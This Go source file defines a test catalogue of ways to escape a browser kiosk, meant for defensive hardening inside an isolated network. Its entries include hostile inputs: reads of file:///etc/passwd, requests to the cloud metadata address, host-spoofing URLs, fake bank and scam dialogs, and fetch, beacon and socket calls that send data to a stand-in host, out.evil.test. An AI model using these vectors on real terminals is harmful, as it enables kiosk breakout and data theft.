// SPDX-License-Identifier: Apache-2.0

// Package lockdown tries for real whether anybody can get out of a terminal: a catalogue of ways out of a kiosk, a hostile
// service on this machine, and a judge that looks at what a person would then see. It runs in a network and a file tree of
// its own; nothing of the machine is touched.
package lockdown

import "fmt"

// Category says where a way out begins.
type Category string

// The categories of the catalogue.
const (
	Keys       Category = "keys"       // a person at the keyboard
	Pointer    Category = "pointer"    // a person with a mouse or a finger
	Navigation Category = "navigation" // the page goes somewhere
	Windows    Category = "windows"    // the page opens something
	Schemes    Category = "schemes"    // addresses that are not on the web
	Files      Category = "files"      // dialogs for files, downloads, print, documents
	Permission Category = "permission" // what browsers ask people
	Dialogs    Category = "dialogs"    // boxes and traps
	Network    Category = "network"    // data leaves
	Accidents  Category = "accidents"  // what breaks, and ends in the terminal's own screen "Back to your form"
)

// Vector is one way out. The page's script runs first: at once, or on a touch of the page when it needs one, as most
// browsers ask; then the gestures. Gestures are "key ctrl+t", "type words", "hold Escape 2500", "click", "double", "right",
// "middle", "button 8", "with ctrl+shift click", "long 1200", "drag in", "drag up", "drag left", "drag right", "drag aside", "wheel 3", "wheel ctrl 3", "edge top",
// "wait 300", "break page" (its process is killed).
type Vector struct {
	ID       string
	Category Category
	Script   string   // of the page; OUT stands for the origin of a forbidden host
	AtOnce   bool     // the script needs no touch
	Hand     []string // gestures
	Needs    string   // what forms use and no way out: "list": a box may lie on the page until it is left with Escape
	Fresh    bool     // the service itself loads a page of its own again, as services may
	Wait     int      // ms that its effect may take to come, where that is long
	Ends     bool     // in the terminal's own screen: from there one key must lead back to the page
}

func keys(names ...string) []Vector {
	var out []Vector
	for _, name := range names {
		out = append(out, Vector{ID: "key " + name, Category: Keys, Hand: []string{"key " + name}})
	}
	return out
}

func typed(id string, hand ...string) Vector { return Vector{ID: id, Category: Keys, Hand: hand} }

func page(c Category, id, script string) Vector { return Vector{ID: id, Category: c, Script: script} }

func once(c Category, id, script string) Vector {
	return Vector{ID: id, Category: c, Script: script, AtOnce: true}
}

func gesture(id string, hand ...string) Vector { return Vector{ID: id, Category: Pointer, Hand: hand} }

// Catalogue is every way out that is tried, in the order in which it is tried.
func Catalogue() []Vector {
	var all []Vector
	all = append(all, keys(
		"ctrl+t", "ctrl+n", "ctrl+shift+n", "ctrl+o", "ctrl+s", "ctrl+p", "ctrl+shift+p", "F12", "ctrl+shift+i", "ctrl+shift+j", "ctrl+shift+c",
		"ctrl+u", "ctrl+h", "ctrl+j", "ctrl+shift+o", "F11", "alt+F4", "ctrl+w", "ctrl+shift+w", "ctrl+shift+q", "ctrl+F4", "shift+Escape",
		"ctrl+shift+Delete", "F1", "alt+Home", "alt+Left", "alt+Right", "ctrl+f", "ctrl+g", "F3", "F7", "ctrl+shift+a", "ctrl+d", "ctrl+shift+d",
		"ctrl+shift+b", "alt+f", "alt+e", "F10", "shift+F10", "Menu", "ctrl+shift+m", "alt+shift+i", "alt+shift+t", "alt+shift+b", "alt+space", "alt+Tab",
		"ctrl+Tab", "ctrl+PageDown", "ctrl+1", "ctrl+9", "ctrl+alt+Right", "super+d", "Super_L", "ctrl+plus", "ctrl+minus", "F5", "ctrl+r", "ctrl+shift+r",
		"ctrl+shift+t", "ctrl+l", "alt+d", "F6", "ctrl+k", "ctrl+e", "ctrl+Escape", "ctrl+alt+t", "ctrl+alt+Delete", "Print", "alt+Return",
	)...)
	all = append(all,
		typed("Escape held down", "hold Escape 2500"),
		typed("Ctrl+T under Caps Lock", "key Caps_Lock", "key ctrl+t", "key Caps_Lock"),
		typed("Ctrl+N under Num Lock", "key Num_Lock", "key ctrl+n", "key Num_Lock"),
		typed("Shift five times", "key Shift_L", "key Shift_L", "key Shift_L", "key Shift_L", "key Shift_L"),
		typed("Ctrl+L and an address", "key ctrl+l", "type http://out.evil.test/typed", "key Return"),
		typed("F6 and an address", "key F6", "type http://out.evil.test/typed", "key Return"),
		typed("Ctrl+L view-source", "key ctrl+l", "type view-source:http://form.localhost/", "key Return"),
		typed("Ctrl+L javascript", "key ctrl+l", "type javascript:open('/other')", "key Return"),
		typed("Ctrl+T file", "key ctrl+t", "wait 200", "type file:///etc/passwd", "key Return"),
		typed("Ctrl+T settings", "key ctrl+t", "wait 200", "type chrome://settings", "key Return"),
		typed("Ctrl+N settings", "key ctrl+n", "wait 400", "type chrome://settings", "key Return"),
		typed("Ctrl+O and a path", "key ctrl+o", "wait 400", "type /etc/passwd", "key Return"),
		typed("Ctrl+S and Enter", "key ctrl+s", "wait 400", "key Return"),
		typed("Ctrl+Shift+A and words", "key ctrl+shift+a", "wait 300", "type out", "key Return"),
		typed("thisisunsafe", "type thisisunsafe"),

		gesture("right click", "right"),
		gesture("right click on nothing", "edge right"),
		gesture("a touch on a link to elsewhere", "click"),
		gesture("middle click on a link", "middle"),
		gesture("Ctrl and click", "with ctrl click"),
		gesture("Shift and click", "with shift click"),
		gesture("Alt and click", "with alt click"),
		gesture("Ctrl, Shift and click", "with ctrl+shift click"),
		gesture("long press", "long 1200"),
		gesture("double click and right click", "double", "right"),
		gesture("the mouse's Back button", "button 8"),
		gesture("the mouse's Forward button", "button 9"),
		gesture("Ctrl and wheel", "wheel ctrl -3"),
		gesture("drag a link onto the page", "drag in"),
		gesture("drag a link to the top", "drag up"),
		gesture("drag a link to the left edge", "drag left"),
		gesture("drag a link to the right edge", "drag right"),
		gesture("drag a link onto the terminal's own screen", "drag aside"),
		Vector{ID: "drag what the page made draggable", Category: Pointer, Hand: []string{"drag left", "drag aside"}, AtOnce: true,
			Script: `const d = add('div', {draggable: 'true', style: veil}); d.ondragstart = e => { e.stopImmediatePropagation(); e.dataTransfer.setData('text/uri-list', OUT + '/dragged') }`},
		gesture("push against the top edge", "edge top"),
		gesture("push against the bottom corner", "edge bottom"),

		once(Navigation, "go elsewhere", `location = OUT + '/go'`),
		once(Navigation, "replace by elsewhere", `location.replace(OUT + '/replace')`),
		once(Navigation, "redirect", `location = '/x/redirect?to=' + OUT + '/redirected'`),
		Vector{ID: "meta refresh", Category: Navigation, Script: `location = '/x/refresh?to=' + OUT + '/refreshed'`, AtOnce: true, Fresh: true},
		page(Navigation, "post a form elsewhere", `const f = add('form', {action: OUT + '/post', method: 'post'}); f.submit()`),
		page(Navigation, "post a form into a new tab", `const f = add('form', {action: OUT + '/post', method: 'post', target: '_blank'}); f.submit()`),
		page(Navigation, "click a link for it", `const a = add('a', {href: OUT + '/link'}); a.click()`),
		once(Navigation, "a frame of elsewhere", `add('iframe', {src: OUT + '/frame', style: veil})`),
		once(Navigation, "an object of elsewhere", `add('object', {data: OUT + '/object', style: veil})`),
		once(Navigation, "an embed of elsewhere", `add('embed', {src: OUT + '/embed', style: veil})`),
		page(Navigation, "a frame leads the page away", `const i = add('iframe', {srcdoc: '<script>top.location = "' + OUT + '/top"<\/script>', style: 'width:1px;height:1px'})`),
		once(Navigation, "a name before the host", `location = 'http://form.localhost@out.evil.test/user'`),
		once(Navigation, "the service's name in another", `location = 'http://form.localhost.evil.test/suffix'`),
		once(Navigation, "an address as one number", `location = 'http://184549832/number'`),
		once(Navigation, "an address in sixteens", `location = 'http://0x0b.0.1.200/hex'`),
		once(Navigation, "a dot behind the host", `location = 'http://out.evil.test./dot'`),
		once(Navigation, "another port", `location = 'http://form.localhost:8081/port'`),
		once(Navigation, "encrypted", `location = 'https://out.evil.test/tls'`),
		once(Navigation, "this machine", `location = 'http://127.0.0.1:3128/'`),
		once(Navigation, "the address of metadata services", `location = 'http://169.254.169.254/'`),
		once(Navigation, "there and back by history", `history.pushState(1, '', '/one'); history.pushState(2, '', '/two'); history.go(-2)`),
		page(Navigation, "a thousand entries of history", `for (let i = 0; i < 100; i++) history.pushState(i, '', '/h' + i)`),

		page(Windows, "window.open elsewhere", `open(OUT + '/open')`),
		Vector{ID: "window.open here", Category: Windows, Script: `open('/other')`, Fresh: true},
		Vector{ID: "a window of a size", Category: Windows, Script: `open('/other', 'w', 'popup,width=1200,height=780,left=0,top=0')`, Fresh: true},
		Vector{ID: "a link with target=_blank", Category: Windows, Script: `add('a', {href: '/other', target: '_blank'}).click()`, Fresh: true},
		page(Windows, "a link with target=_blank elsewhere", `add('a', {href: OUT + '/blank', target: '_blank'}).click()`),
		page(Windows, "an empty window and write", `const w = open('about:blank'); w.document.write('<h1>Your bank</h1>')`),
		page(Windows, "a window of javascript:", `open("javascript:'<h1>Your bank</h1>'")`),
		page(Windows, "a window of data:", `open('data:text/html,<h1>Your bank</h1>')`),
		page(Windows, "a window of blob:", `open(URL.createObjectURL(new Blob(['<h1>Your bank</h1>'], {type: 'text/html'})))`),
		page(Windows, "twenty windows", `for (let i = 0; i < 20; i++) open('about:blank', 'c' + i, 'popup,left=0,top=0,width=400,height=400')`),
		Vector{ID: "a window without an opener", Category: Windows, Script: `open('/other', '_blank', 'noopener')`, Fresh: true},
		page(Windows, "picture in picture of a document", `documentPictureInPicture.requestWindow({width: 900, height: 700})`),
		page(Windows, "picture in picture of a video", `const c = document.createElement('canvas'); c.getContext('2d'); const v = add('video', {muted: true}); v.srcObject = c.captureStream(); v.onloadedmetadata = () => v.requestPictureInPicture(); v.play()`),
		page(Windows, "full screen", `document.documentElement.requestFullscreen()`),
		page(Windows, "full screen and keyboard lock", `document.documentElement.requestFullscreen().then(() => navigator.keyboard.lock())`),
		page(Windows, "pointer lock", `document.body.requestPointerLock()`),
		page(Windows, "move and resize", `moveTo(0, 0); moveBy(-400, -50); resizeTo(1280, 800); resizeBy(400, 400)`),
		page(Windows, "close the window", `close(); open('', '_self').close()`),
		page(Windows, "bring itself to the front", `focus(); blur(); focus()`),
		page(Windows, "show on another screen", `new PresentationRequest(['/other']).start()`),
	)
	for _, to := range []string{
		"file:///etc/passwd", "chrome://settings", "chrome://version", "chrome-untrusted://print", "devtools://devtools/bundled/inspector.html", "view-source:http://form.localhost/",
		"data:text/html,<h1>x</h1>", "about:settings", "about:srcdoc", "filesystem:http://form.localhost/temporary/x", "ftp://out.evil.test/", "mailto:a@out.evil.test",
		"tel:+4712345678", "sms:+4712345678", "ms-word:ofe|u|http://out.evil.test/x", "intent://x#Intent;scheme=http;end", "ssh://out.evil.test", "magnet:?xt=urn:btih:1",
		"chrome-extension://nmmhkkegccagdldgiimedpiccmgmieda/x.html", "javascript:void(open('/other'))", "web+trial:x", "ws://out.evil.test/",
	} {
		all = append(all, page(Schemes, "go to "+to, fmt.Sprintf("location = %q", to)))
	}
	all = append(all,
		page(Schemes, "go to blob:", `location = URL.createObjectURL(new Blob(['<h1>x</h1>'], {type: 'text/html'}))`),

		page(Files, "a download by its header", `location = '/x/download'`),
		page(Files, "a download by its link", `add('a', {href: 'data:text/plain,x', download: 'x.desktop'}).click()`),
		page(Files, "a download of a blob", `add('a', {href: URL.createObjectURL(new Blob(['x'])), download: 'x.sh'}).click()`),
		page(Files, "ten downloads", `for (let i = 0; i < 10; i++) add('a', {href: 'data:text/plain,' + i, download: i + '.txt'}).click()`),
		page(Files, "an extension", `location = '/x/extension'`),
		Vector{ID: "choose a file", Category: Files, Script: `add('input', {type: 'file', style: corner}).click()`, Ends: true},
		Vector{ID: "choose a folder", Category: Files, Script: `add('input', {type: 'file', style: corner, webkitdirectory: true}).click()`, Ends: true},
		page(Files, "open a file", `showOpenFilePicker()`),
		page(Files, "open a folder", `showDirectoryPicker()`),
		page(Files, "save a file", `showSaveFilePicker()`),
		Vector{ID: "print", Category: Files, Script: `print()`, Ends: true},
		Vector{ID: "print a frame", Category: Files, Script: `const i = add('iframe', {srcdoc: 'x', style: veil}); i.onload = () => i.contentWindow.print()`, Ends: true},
		Vector{ID: "a PDF", Category: Files, Script: `location = '/x/pdf'`, Ends: true},
		Vector{ID: "a PDF in a window", Category: Files, Script: `open('/x/pdf')`, Ends: true},
		page(Files, "a PDF in a frame", `add('iframe', {src: '/x/pdf', style: veil})`),
		page(Files, "a PDF embedded", `add('embed', {src: '/x/pdf', type: 'application/pdf', style: veil})`),
		page(Files, "an archive of a page", `location = '/x/mhtml'`),

		page(Permission, "notifications", `Notification.requestPermission()`),
		page(Permission, "place", `navigator.geolocation.getCurrentPosition(() => {})`),
		page(Permission, "microphone", `navigator.mediaDevices.getUserMedia({audio: true})`),
		page(Permission, "camera", `navigator.mediaDevices.getUserMedia({video: true})`),
		page(Permission, "screen capture", `navigator.mediaDevices.getDisplayMedia({video: true})`),
		page(Permission, "clipboard", `navigator.clipboard.read()`),
		page(Permission, "clipboard text", `navigator.clipboard.readText()`),
		page(Permission, "USB", `navigator.usb.requestDevice({filters: []})`),
		page(Permission, "serial", `navigator.serial.requestPort()`),
		page(Permission, "HID", `navigator.hid.requestDevice({filters: []})`),
		page(Permission, "Bluetooth", `navigator.bluetooth.requestDevice({acceptAllDevices: true})`),
		page(Permission, "MIDI", `navigator.requestMIDIAccess({sysex: true})`),
		page(Permission, "fonts", `queryLocalFonts()`),
		page(Permission, "screens", `getScreenDetails()`),
		page(Permission, "protocol handler", `navigator.registerProtocolHandler('web+trial', '/x?%s', 'x')`),
		page(Permission, "storage of others", `document.requestStorageAccess()`),
		page(Permission, "storage for ever", `navigator.storage.persist()`),
		page(Permission, "idle detection", `IdleDetector.requestPermission()`),
		page(Permission, "payment", `new PaymentRequest([{supportedMethods: 'https://out.evil.test/pay'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).show()`),
		page(Permission, "a passkey", `navigator.credentials.create({publicKey: {rp: {name: 'x'}, user: {id: new Uint8Array(8), name: 'x', displayName: 'x'}, challenge: new Uint8Array(16), pubKeyCredParams: [{type: 'public-key', alg: -7}]}})`),
		page(Permission, "an account elsewhere", `navigator.credentials.get({identity: {providers: [{configURL: OUT + '/fedcm.json', clientId: 'x'}]}})`),
		page(Permission, "kept passwords", `navigator.credentials.get({password: true, mediation: 'required'})`),
		page(Permission, "share", `navigator.share({title: 'x', url: '/'})`),
		page(Permission, "speech recognition", `new webkitSpeechRecognition().start()`),
		page(Permission, "push", `navigator.serviceWorker.register('/x/sw.js').then(() => navigator.serviceWorker.ready).then(r => r.pushManager.subscribe({userVisibleOnly: true, applicationServerKey: new Uint8Array(65).fill(4)}))`),
		page(Permission, "the office's network", `fetch('http://192.168.1.1/', {mode: 'no-cors'})`),
		page(Permission, "virtual reality", `navigator.xr.requestSession('immersive-vr')`),

		page(Dialogs, "alert", `alert('Your computer is infected. Call now.')`),
		page(Dialogs, "confirm", `confirm('?')`),
		page(Dialogs, "prompt", `prompt('Your password')`),
		Vector{ID: "an alert loop", Category: Dialogs, Script: `let n = 0; const again = () => { alert('again'); if (n++ < 40) setTimeout(again) }; again()`, Wait: 2500},
		page(Dialogs, "beforeunload and away", `onbeforeunload = e => { e.preventDefault(); return 'stay' }; location = OUT + '/leave'`),
		Vector{ID: "beforeunload and reload", Category: Dialogs, Script: `onbeforeunload = e => { e.preventDefault(); return 'stay' }; location.reload()`, Fresh: true},
		Vector{ID: "a password for the page", Category: Dialogs, Script: `location = '/x/auth'`, Fresh: true},
		page(Dialogs, "a password for a picture", `new Image().src = '/x/auth?img'`),
		page(Dialogs, "a password for a request", `fetch('/x/auth?fetch')`),
		Vector{ID: "a page that hangs", Category: Dialogs, Script: `const end = Date.now() + 2500; while (Date.now() < end);`, Wait: 4000},
		Vector{ID: "print without end", Category: Dialogs, Script: `for (let i = 0; i < 5; i++) setTimeout(() => print(), i * 50)`, Ends: true},
		Vector{ID: "a colour picker", Category: Dialogs, Script: `add('input', {type: 'color', style: corner}).showPicker()`, Needs: "list"},
		Vector{ID: "a date picker", Category: Dialogs, Script: `add('input', {type: 'date', style: corner}).showPicker()`, Needs: "list"},
		Vector{ID: "a list at the edge", Category: Dialogs, Script: `const s = add('select', {style: corner}); for (let i = 0; i < 60; i++) s.add(new Option('choice ' + i)); s.showPicker()`, Needs: "list"},
		page(Dialogs, "an eye dropper", `new EyeDropper().open()`),

		page(Dialogs, "a password for another proxy", `fetch('/x/proxy-auth')`),
		Vector{ID: "a page that asks as a proxy does", Category: Dialogs, Script: `location = '/x/proxy-auth'`, Fresh: true},
		page(Dialogs, "an answer of nothing", `location = '/x/nothing'`),
		page(Dialogs, "a frame with a certificate that nobody knows", `add('iframe', {src: 'https://form.localhost:80/', style: veil})`),

		Vector{ID: "a certificate that nobody knows", Category: Accidents, Script: `location = 'https://form.localhost:80/'`, Ends: true},
		Vector{ID: "redirects without end", Category: Accidents, Script: `location = '/x/loop'`, Ends: true},
		Vector{ID: "an answer that cannot be read", Category: Accidents, Script: `location = '/x/garbled'`, Ends: true},
		Vector{ID: "the page's process dies", Category: Accidents, Hand: []string{"break page"}, Ends: true},
		Vector{ID: "a page that hangs for ever", Category: Accidents, Script: `for (;;);`, Wait: 30000, Ends: true},

		page(Network, "a picture", `new Image().src = OUT + '/img'`),
		page(Network, "a request", `fetch(OUT + '/fetch', {mode: 'no-cors'})`),
		page(Network, "a socket", `new WebSocket(OUT.replace('http', 'ws') + '/ws')`),
		page(Network, "a beacon", `navigator.sendBeacon(OUT + '/beacon', 'x')`),
		page(Network, "a service worker", `navigator.serviceWorker.register('/x/sw.js?' + OUT)`),
		page(Network, "post to this machine", `fetch('http://127.0.0.1:3128/', {method: 'POST', mode: 'no-cors', body: 'x'})`),
		page(Network, "a socket to this machine", `new WebSocket('ws://127.0.0.1:3128/')`),
		page(Network, "a form to this machine", `const i = add('iframe', {name: 'f', style: 'width:1px;height:1px;border:0'}); add('form', {action: 'http://127.0.0.1:3128/', method: 'post', target: 'f'}).submit()`),
		page(Network, "a call", `const c = new RTCPeerConnection({iceServers: [{urls: 'stun:out.evil.test:3478'}]}); c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))`),
	)
	return all
}
